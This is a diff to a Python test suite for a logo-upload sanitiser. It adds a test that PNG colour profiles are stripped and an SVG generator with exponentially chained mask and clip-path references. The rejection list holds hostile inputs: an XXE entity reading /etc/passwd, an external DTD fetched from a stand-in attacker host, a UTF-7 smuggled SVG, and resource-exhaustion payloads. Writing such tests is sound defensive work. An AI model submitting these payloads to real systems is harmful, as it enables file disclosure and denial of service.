@@ -22,6 +22,16 @@ def png(width: int = 20, height: int = 10) -> bytes:
     return written.getvalue()
 
 
+def chained(element: str, reference: str, *, depth: int = 6) -> bytes:
+    """An SVG of sixty elements, of which each refers ten times to the next: ten to the sixth to draw."""
+    links = [
+        f'<{element} id="a{number}">' + f'<rect width="9" height="9" {reference}="url(#a{number + 1})"/>' * 10
+        for number in range(depth)
+    ]
+    drawn = f"</{element}>".join(links) + f'</{element}><rect width="9" height="9" {reference}="url(#a0)"/>'
+    return SVG.format(drawn).encode()
+
+
 def kept(inner: str) -> str:
     return bytes(read_logo(SVG.format(inner).encode()).content).decode()
 
@@ -35,6 +45,16 @@ def test_png_is_written_anew() -> None:
     assert Image.open(BytesIO(content)).size == (20, 10)
     assert b"script" not in content
     assert b"something" not in content
+
+
+def test_colour_profile_of_a_png_is_not_kept() -> None:
+    """It is bytes of whoever made the file, which nobody reads on the way."""
+    written = BytesIO()
+    Image.new("RGB", (20, 10)).save(written, "PNG", icc_profile=b"whatever somebody wrote there")
+
+    content = bytes(read_logo(written.getvalue()).content)
+
+    assert Image.open(BytesIO(content)).info == {}
 
 
 def test_large_png_is_made_smaller() -> None:
@@ -60,6 +80,12 @@ def test_large_png_is_made_smaller() -> None:
         b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + SVG.format("<title>&a;</title>").encode(),
         b'<!doctype svg SYSTEM "http://evil.example/x.dtd" []>' + SVG.format("").encode(),
         b'<?xml version="1.0" encoding="utf-7"?>+ADw-svg/+AD4-',
+        b"<!DOCTYPE " * 50_000,  # each of which would be looked through to the end
+        b'<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>',  # no PDF could be made with it
+        b'<svg xmlns="http://www.w3.org/2000/svg" width="-5" height="5"/>',
+        chained("mask", "mask"),
+        chained("clipPath", "clip-path"),
+        SVG.format('<mask id="a"><rect mask="url(#a)"/></mask><rect mask="url(#a)"/>').encode(),
     ],
 )
 def test_what_is_no_logo_is_refused(content: bytes) -> None:
